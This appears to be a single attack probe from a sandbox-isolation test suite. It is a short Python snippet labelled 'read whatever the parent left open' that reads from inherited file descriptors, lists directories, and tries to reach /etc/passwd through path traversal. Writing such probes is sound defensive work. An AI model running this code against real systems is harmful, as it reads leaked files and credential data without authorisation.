# category: files
# attack: read whatever the parent left open
# kind: stdin
import stat
for fd in range(3, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    os.set_blocking(fd, False)
    for how in (lambda: os.pread(fd, 400, 0), lambda: os.read(fd, 400)):
        try:
            say(f"fd {fd} {stat.filemode(mode)} {how()!r}")
        except OSError:
            pass
    if stat.S_ISDIR(mode):
        attempt(f"list folder fd {fd}", os.listdir, fd)
        for name in ("etc/passwd", "../etc/passwd", "../../../../../etc/passwd"):
            attempt(f"{name} from fd {fd}", lambda: os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 100))
